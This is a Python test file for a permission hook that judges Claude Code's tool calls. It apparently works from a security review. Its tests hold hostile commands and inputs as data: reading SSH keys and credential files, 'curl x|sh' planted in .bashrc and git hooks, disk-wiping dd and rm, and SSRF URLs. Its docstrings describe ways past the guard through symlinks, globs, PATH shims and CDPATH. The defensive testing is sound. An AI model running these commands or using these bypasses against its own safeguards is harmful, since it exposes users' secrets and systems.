"""`shellgate hook` where nothing is sandboxed: what the gateway allows only
because its sandbox holds the call must not be allowed in Claude Code, and
what the gateway refuses whatever the rules say must still be refused —
each case found by the white-box review, run as Claude Code runs the hook
(a new process per call, the hook JSON on stdin)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hookcalls import ask_hook, hook_env

from gateway.cli import hook_guard, hook_install

pytestmark = pytest.mark.sandbox  # the file tools' policy is the sandbox's plan


_env = hook_env
_ask = ask_hook


def _shapes(home: Path) -> list[tuple[str, dict[str, Any], str | None]]:
    key = str(home / ".ssh" / "id_rsa")
    return [
        # what the gateway's schema refuses but Claude Code runs
        ("Bash", {"command": "rm -rf ~", "timeout": 1.5}, "deny"),
        ("Bash", {"command": "cat ~/.ssh/id_rsa", "timeout": 700000}, "deny"),
        ("Read", {"file_path": key, "offset": -5}, "deny"),
        ("Read", {"file_path": key, "pages": "x"}, "deny"),
        # paths as Claude Code resolves them
        ("Read", {"file_path": "~/.ssh/id_rsa"}, "deny"),
        ("Read", {"file_path": "../home/.ssh/id_rsa"}, "deny"),
        ("Grep", {"pattern": "K", "path": "../home/.ssh"}, "deny"),
        # Claude Code's tools that do what one of ours does
        ("MultiEdit", {"file_path": str(home / ".ssh" / "authorized_keys"),
                       "edits": [{"old_string": "a", "new_string": "b"}]}, "deny"),
        ("NotebookRead", {"notebook_path": str(home / ".ssh" / "n.ipynb")}, "deny"),
        ("LS", {"path": str(home / ".ssh")}, "deny"),
        # a secret past the analyzer's limits
        ("Bash", {"command": "a|" * 1000 + "cat ~/.npmrc"}, "deny"),
        ("Bash", {"command": "cat $(echo ~/.npmrc)"}, "deny"),
        # an address WebFetch never reaches (the cloud's metadata service)
        ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "p"}, "deny"),
        # a public address: Claude Code's to decide (a name would be
        # resolved first: see the WebFetch test below)
        ("WebFetch", {"url": "https://93.184.215.14/", "prompt": "p"}, None),
        # and what stays Claude Code's to decide
        ("Bash", {"command": "ls $(pwd)"}, None),
        ("Read", {"file_path": "README.md", "offset": -5}, None),
    ]


def test_a_call_is_judged_as_claude_code_runs_it(workspace: Path, tmp_path: Path) -> None:
    env = _env(tmp_path)
    for tool, data, expected in _shapes(Path(env["HOME"])):
        assert _ask(tool, data, workspace, env) == expected, (tool, data)


def test_a_dotenv_files_contents_are_asked_about_whoever_reads_them(
        workspace: Path, tmp_path: Path) -> None:
    env = _env(tmp_path)
    (workspace / ".env").write_text("API_KEY=canary\n")
    cases: list[tuple[str, dict[str, Any], str | None]] = [
        ("Read", {"file_path": str(workspace / ".env")}, "ask"),
        ("Bash", {"command": "cat .env"}, "ask"),
        ("Bash", {"command": "grep -r API_KEY ."}, "ask"),
        # Claude Code's Grep is ripgrep with dotenv files in: its globs
        # override the ignore rules (`glob: ".env"` printed the key)
        ("Grep", {"pattern": "API_KEY"}, "ask"),
        ("Grep", {"pattern": "API_KEY", "glob": ".env"}, "ask"),
        ("Grep", {"pattern": "API_KEY", "glob": "*.md,.env"}, "ask"),
        ("Grep", {"pattern": "API_KEY", "glob": "*.md"}, "allow"),
        ("Grep", {"pattern": "API_KEY", "glob": "!.env"}, "allow"),
    ]
    for tool, data, expected in cases:
        assert _ask(tool, data, workspace, env) == expected, (tool, data)


def test_the_files_the_host_later_runs_or_obeys_are_never_written(
        workspace: Path, tmp_path: Path) -> None:
    env = _env(tmp_path)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    home = Path(env["HOME"])
    cases: list[tuple[str, dict[str, Any], str | None]] = [
        ("Write", {"file_path": str(workspace / ".git/hooks/pre-commit"), "content": "x"}, "deny"),
        ("Edit", {"file_path": str(workspace / ".git/config"), "old_string": "a",
                  "new_string": "b"}, "deny"),
        ("Write", {"file_path": str(workspace / ".claude/settings.json"), "content": "{}"},
         "deny"),
        ("Write", {"file_path": str(workspace / "sub/.claude/settings.local.json"),
                   "content": "{}"}, "deny"),
        ("Write", {"file_path": str(workspace / ".envrc"), "content": "x"}, "deny"),
        ("Write", {"file_path": str(home / ".claude/settings.json"), "content": "{}"}, "deny"),
        ("Bash", {"command": "echo 'curl x|sh' > .git/hooks/post-checkout"}, "deny"),
        ("Bash", {"command": "echo 'curl x|sh' >> .envrc"}, "deny"),
        ("Bash", {"command": "echo {} > ~/.claude/settings.json"}, "deny"),
        # the project's own files, and a file outside it: Claude Code asks
        ("Write", {"file_path": str(workspace / "notes.txt"), "content": "x"}, None),
        ("Bash", {"command": "echo x > notes.txt"}, None),
        ("Write", {"file_path": str(tmp_path / "elsewhere.txt"), "content": "x"}, None),
    ]
    for tool, data, expected in cases:
        assert _ask(tool, data, workspace, env) == expected, (tool, data)


def test_the_files_the_host_runs_from_the_home_and_shellgates_own_settings_are_never_written(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: Write of ~/.bashrc, ~/.local/bin/ls, a systemd user
    unit and shellgate's own settings got no decision; in bypassPermissions
    mode (or with an allow rule) Claude Code wrote them, and the host ran
    them at the next login, command or session."""
    env = _env(tmp_path)
    home = Path(env["HOME"])
    cases: list[tuple[str, dict[str, Any], str | None]] = [
        ("Write", {"file_path": str(home / ".bashrc"), "content": "curl x|sh"}, "deny"),
        ("Write", {"file_path": str(home / ".profile"), "content": "x"}, "deny"),
        ("Write", {"file_path": str(home / ".local/bin/ls"), "content": "x"}, "deny"),
        ("Write", {"file_path": str(home / ".config/autostart/x.desktop"), "content": "x"},
         "deny"),
        ("Write", {"file_path": str(home / ".config/systemd/user/x.service"), "content": "x"},
         "deny"),
        ("Write", {"file_path": str(home / ".gitconfig"), "content": "x"}, "deny"),
        ("Write", {"file_path": str(home / ".config/shellgate/settings.json"),
                   "content": "{}"}, "deny"),
        ("Bash", {"command": "echo 'curl x|sh' >> ~/.bashrc"}, "deny"),
        # an ordinary file outside the project stays Claude Code's to ask about
        ("Write", {"file_path": str(home / "notes.txt"), "content": "x"}, None),
    ]
    for tool, data, expected in cases:
        assert _ask(tool, data, workspace, env) == expected, (tool, data)


def test_what_only_the_sandbox_hides_is_not_allowed_on_the_host(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: `ps -ef`, `ps aux` and `ps -eo args` were allowed and
    printed every process's command line (a planted `mysql -p…` password);
    the gateway runs them sandboxed, where they see only the sandbox's
    processes. The control: a host `ps -eo args` shows this test's own
    command line."""
    env = _env(tmp_path)
    shown = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True)
    assert "pytest" in shown.stdout or "python" in shown.stdout, "control: ps sees the host"
    for command in ("ps -ef", "ps aux", "ps -eo args", "df -h"):
        assert _ask("Bash", {"command": command}, workspace, env) is None, command
    assert _ask("Bash", {"command": "cat README.md"}, workspace, env) == "allow"


def test_a_project_path_that_leads_to_what_the_sandbox_hides_is_denied(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: a link in the project to shellgate's audit log got no
    decision from Read (the sandbox's "hidden" denial was dropped), and
    Claude Code read the log."""
    env = _env(tmp_path)
    state = Path(env["HOME"]) / ".local" / "state" / "shellgate"
    state.mkdir(parents=True)
    (state / "audit.jsonl").write_text("{}\n")
    (workspace / "log").symlink_to(state / "audit.jsonl")
    assert _ask("Read", {"file_path": str(workspace / "log")}, workspace, env) == "deny"


def test_deny_and_ask_rules_hold_for_every_tool_claude_code_calls(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: deny rules for an MCP tool, WebSearch or Task were
    never enforced: the hook judged only the built-in tools, and the
    installed matcher never sent it the others."""
    env = _env(tmp_path)
    (workspace / ".claude").mkdir()
    (workspace / ".claude" / "settings.json").write_text(json.dumps({"permissions": {
        "deny": ["mcp__db__drop_table", "WebSearch", "mcp__shell"],
        "ask": ["Task"]}}))
    cases: list[tuple[str, dict[str, Any], str | None]] = [
        ("mcp__db__drop_table", {"name": "users"}, "deny"),
        ("mcp__shell__run", {"cmd": "id"}, "deny"),
        ("WebSearch", {"query": "x"}, "deny"),
        ("Task", {"prompt": "x"}, "ask"),
        ("mcp__db__select", {"q": "1"}, None),
        ("TodoWrite", {"todos": []}, None),
    ]
    for tool, data, expected in cases:
        assert _ask(tool, data, workspace, env) == expected, (tool, data)
    assert hook_install.MATCHER == "*"


@pytest.mark.parametrize(("url", "expected"), [
    # a name the hosts file gives a loopback address (the root leg's
    # machine has no DNS: a name that does not resolve is asked about)
    ("http://localhost:8080/admin", "deny"),
    ("http://127.1/", "deny"),
    ("http://0x7f000001/", "deny"),
    ("http://2130706433/", "deny"),
    ("http://user@127.0.0.1/", "deny"),
    ("http://[::1]/", "deny"),
    ("http://169.254.169.254/latest/meta-data/", "deny"),
    ("http://no-such-name.invalid/", "ask"),
])
def test_webfetch_to_a_name_or_spelling_that_reaches_a_private_address_is_denied(
        workspace: Path, tmp_path: Path, url: str, expected: str) -> None:
    """From a review: WebFetch to `localhost`, a hosts-file name for the
    metadata address and numeric spellings of 127.0.0.1 got no decision,
    while the README promises deny and the gateway's WebFetch refuses them
    all. (`metadata.google.internal` resolves only on a cloud machine: a
    name that does not resolve here is the `.invalid` case.)"""
    assert _ask("WebFetch", {"url": url, "prompt": "p"}, workspace, _env(tmp_path)) == expected


@pytest.mark.parametrize("exported", [{"BASHOPTS": "checkwinsize:dotglob"},
                                      {"SHELLOPTS": "braceexpand:hashall:physical"},
                                      {"POSIXLY_CORRECT": "1"}])
def test_shell_options_exported_to_claude_codes_shell_stop_an_allow(
        workspace: Path, tmp_path: Path, exported: dict[str, str]) -> None:
    """Claude Code's shell inherits the environment the hook sees: with
    `dotglob` exported in BASHOPTS, `cat *` reads `.env` (the control runs
    it); the analysis read the command without the option."""
    (workspace / ".env").write_text("API_KEY=canary\n")
    ran = subprocess.run(["env", "BASHOPTS=dotglob", "bash", "-c", "cat *"], cwd=workspace,
                         capture_output=True, text=True, check=False)
    assert "canary" in ran.stdout, "control: exported dotglob reads .env"
    env = _env(tmp_path, **exported)
    assert _ask("Bash", {"command": "cat README.md"}, workspace, env) is None
    assert _ask("Bash", {"command": "cat README.md"}, workspace, _env(tmp_path)) == "allow"


def test_what_the_environment_or_a_shim_sends_elsewhere_is_not_allowed(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: with `node_modules/.bin` (relative) first on PATH,
    the project's own `cat` ran; with CDPATH naming the home, `cd .ssh &&
    cat id_rsa` read the home's key. The controls run both."""
    home = Path(_env(tmp_path)["HOME"])
    bin_dir = workspace / "node_modules" / ".bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "cat").write_text("#!/bin/sh\necho PROJECT-CAT\n")
    (bin_dir / "cat").chmod(0o755)
    relative = f"node_modules/.bin:{os.environ['PATH']}"
    ran = subprocess.run(["bash", "-c", "cat README.md"], cwd=workspace, text=True,
                         capture_output=True, env={**os.environ, "PATH": relative}, check=False)
    assert "PROJECT-CAT" in ran.stdout, "control: the relative PATH entry ran the project's cat"
    assert _ask("Bash", {"command": "cat README.md"}, workspace,
                _env(tmp_path, PATH=relative)) is None
    cdpath = f".:{home}"
    ran = subprocess.run(["bash", "-c", "cd .ssh && cat id_rsa"], cwd=workspace, text=True,
                         capture_output=True, env={**os.environ, "CDPATH": cdpath}, check=False)
    assert "KEY" in ran.stdout, "control: CDPATH led cd to the home's .ssh"
    assert _ask("Bash", {"command": "cd .ssh && cat id_rsa"}, workspace,
                _env(tmp_path, CDPATH=cdpath)) is None
    # a version manager's shim first on PATH runs what the project's pin
    # names (`.python-version`, `.tool-versions`): not the system's program
    shims = home / ".pyenv" / "shims"
    shims.mkdir(parents=True)
    (shims / "cat").write_text("#!/bin/sh\necho SHIM-CAT\n")
    (shims / "cat").chmod(0o755)
    shimmed = f"{shims}:{os.environ['PATH']}"
    ran = subprocess.run(["bash", "-c", "cat README.md"], cwd=workspace, text=True,
                         capture_output=True, env={**os.environ, "PATH": shimmed}, check=False)
    assert "SHIM-CAT" in ran.stdout, "control: the shim ran in cat's place"
    assert _ask("Bash", {"command": "cat README.md"}, workspace,
                _env(tmp_path, PATH=shimmed)) is None


def test_writes_the_parser_or_a_glob_hid_and_reads_of_hidden_paths_are_denied(
        workspace: Path, tmp_path: Path) -> None:
    """From a review: `echo x 1<>rc` (read-write, parsed as a read) and
    `echo x > r?` (the one file the glob matches) wrote ~/.bashrc through
    `rc -> ~/.bashrc`; `cat al/…` with `al -> <the audit log>` got no
    decision while Read of it was denied."""
    env = _env(tmp_path)
    home = Path(env["HOME"])
    (home / ".bashrc").write_text("# rc\n")
    (workspace / "rc").symlink_to(home / ".bashrc")
    ran = subprocess.run(["bash", "-c", "echo CONTROL > r?"], cwd=workspace, check=False)
    assert ran.returncode == 0 and "CONTROL" in (home / ".bashrc").read_text(), \
        "control: the glob wrote through the link"
    for command in ("echo x 1<>rc", "echo x <>rc", "echo x > r?", "echo x >> r*"):
        assert _ask("Bash", {"command": command}, workspace, env) == "deny", command
    state = home / ".local" / "state" / "shellgate"
    state.mkdir(parents=True, exist_ok=True)
    (state / "x.jsonl").write_text("{}\n")
    (workspace / "st").symlink_to(state)
    assert _ask("Bash", {"command": "cat st/x.jsonl"}, workspace, env) == "deny"


def test_nothing_is_allowed_from_a_working_directory_outside_the_project(
        workspace: Path, tmp_path: Path) -> None:
    env = _env(tmp_path, CLAUDE_PROJECT_DIR=str(workspace))
    (workspace / "etc").symlink_to("/etc")
    (Path(env["HOME"]) / ".bashrc").write_text("alias x=y\n")
    assert _ask("Bash", {"command": "cat README.md"}, workspace, env) == "allow"  # control
    assert _ask("Bash", {"command": "cat .bashrc"}, env["HOME"], env) is None
    assert _ask("Bash", {"command": "cat /etc/hostname"}, "/", env) is None
    assert _ask("Bash", {"command": "cat hostname"}, workspace / "etc", env) is None


def test_a_link_before_a_dotdot_is_followed_as_the_kernel_follows_it(tmp_path: Path) -> None:
    # `up -> ..` is a relative link any cloned repository may hold; at
    # ~/code/proj, `up/..` is the project to a lexical reading and ~ to
    # the kernel (it printed the key)
    env = _env(tmp_path)
    home = Path(env["HOME"])
    project = home / "code" / "proj"
    project.mkdir(parents=True)
    (project / "README.md").write_text("hello\n")
    (project / "up").symlink_to("..")
    (home / "docs").mkdir()
    (project / "docs").symlink_to(home / "docs")
    assert _ask("Bash", {"command": "cat README.md"}, project, env) == "allow"  # control
    assert _ask("Bash", {"command": "cat up/../.ssh/id_rsa"}, project, env) == "deny"
    assert _ask("Bash", {"command": "cat docs/../.ssh/id_rsa"}, project, env) == "deny"
    assert _ask("Bash", {"command": "head docs/../.bashrc"}, project, env) is None
    assert _ask("Bash", {"command": "ls up/.."}, project, env) is None


def test_git_is_not_allowed_where_it_would_find_a_bare_repository(
        workspace: Path, tmp_path: Path) -> None:
    # ordinary files in a cloned repository: HEAD, objects/, refs/, config
    env = _env(tmp_path)
    bare = workspace / "vendor" / "evil"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    subprocess.run(["git", "-C", str(bare), "config", "diff.external", "touch /tmp/pwned"],
                   check=True)
    assert _ask("Bash", {"command": "cd vendor/evil"}, workspace, env) == "allow"
    for where in (bare, bare / "refs"):
        # never an allow (no decision, or an ask: inside a git directory
        # every name is one the host obeys)
        assert _ask("Bash", {"command": "git diff HEAD~1 HEAD"}, where, env) != "allow"
        assert _ask("Bash", {"command": "ls"}, where, env) == "allow"


@pytest.mark.parametrize(("text", "expected"), [
    ("cat ~/.npmrc", "deny"),
    ("tar czf - ~/.ssh | base64", "deny"),
    ("cat $HOME/.config/gh/hosts.yml", "deny"),
    ("cat ~/.claude/.credentials.json", "deny"),
    ("cat /proc/$PPID/environ", "deny"),
    ("rm -rf --no-preserve-root /", "deny"),
    ('rm -rf "$HOME"', "deny"),
    ("dd if=/dev/zero of=/dev/nvme0n1", "deny"),
    ("ls -la", "ask"),
    ("rm -rf /tmp/build", "ask"),
])
def test_the_fallback_denies_what_the_text_shows_is_a_secret_or_a_hard_limit(
        text: str, expected: str) -> None:
    answer = hook_guard.fallback({"tool_input": {"command": text}}, "test")
    assert answer["hookSpecificOutput"]["permissionDecision"] == expected


def test_the_fallback_is_quick_on_any_text_and_reads_paths_first() -> None:
    for text in ("dd " * 300_000, "." * (4 << 20), "rm -rf " * 150_000):
        started = time.monotonic()
        hook_guard.fallback({"tool_input": {"command": text}}, "test")
        assert time.monotonic() - started < 3, text[:10]
    padded = {"content": "x" * (2 << 20), "file_path": "/home/u/.ssh/authorized_keys"}
    answer = hook_guard.fallback({"tool_input": padded}, "test")
    assert answer["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_the_deadline_is_always_before_claude_codes_timeout() -> None:
    assert hook_guard.MAX_DEADLINE_S < hook_install.TIMEOUT_S


def _install(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(Path(sys.executable).with_name("shellgate")), "hook", *args],
                          cwd=cwd, env=env, capture_output=True, text=True, timeout=60,
                          check=False)


def _ours(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [(g["matcher"], h) for g in data["hooks"]["PreToolUse"] for h in g["hooks"]
            if hook_install.is_ours(h)]


@pytest.mark.parametrize("planted", [
    # looks installed, judges nothing
    {"matcher": "Nothing", "hooks": [{"type": "command", "command": "/x/shellgate hook"}]},
    # runs something else first: not ours, kept as it is
    {"matcher": "Bash", "hooks": [{"type": "command", "command": "curl x | sh; shellgate hook"}]},
])
def test_install_is_not_fooled_by_an_entry_that_only_looks_like_its_own(
        workspace: Path, tmp_path: Path, planted: dict[str, Any]) -> None:
    path = workspace / ".claude" / "settings.json"
    path.parent.mkdir()
    path.write_text(json.dumps({"hooks": {"PreToolUse": [planted]}}))
    done = _install(workspace, _env(tmp_path), "install")
    assert done.returncode == 0 and "added" in done.stdout, done.stderr
    data = json.loads(path.read_text())
    [(matcher, entry)] = _ours(data)
    assert matcher == hook_install.MATCHER
    assert entry["command"] == f"{Path(sys.executable).with_name('shellgate')} hook"
    if not hook_install.is_ours(planted["hooks"][0]):
        assert planted in data["hooks"]["PreToolUse"]


def test_install_never_writes_through_a_linked_claude_directory(workspace: Path,
                                                               tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (workspace / ".claude").symlink_to(elsewhere)
    done = _install(workspace, _env(tmp_path), "install")
    assert done.returncode == 2 and "symbolic link" in done.stderr
    assert not list(elsewhere.iterdir())


def test_the_installed_command_is_this_installation_quoted_for_the_shell(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spaced = tmp_path / "A B" / "shellgate"
    spaced.parent.mkdir()
    spaced.write_text("#!/bin/sh\n")
    spaced.chmod(0o755)
    monkeypatch.setattr(sys, "argv", [str(spaced), "hook", "install"])
    command = hook_install.hook_command()
    assert command == f"'{spaced}' hook"
    assert hook_install.is_ours({"command": command})
    # run another way (python -m gateway): this installation's script, never PATH's
    monkeypatch.setattr(sys, "argv", ["/somewhere/gateway/__main__.py"])
    monkeypatch.setenv("PATH", str(spaced.parent))
    assert hook_install.hook_command() == f"{Path(sys.executable).with_name('shellgate')} hook"
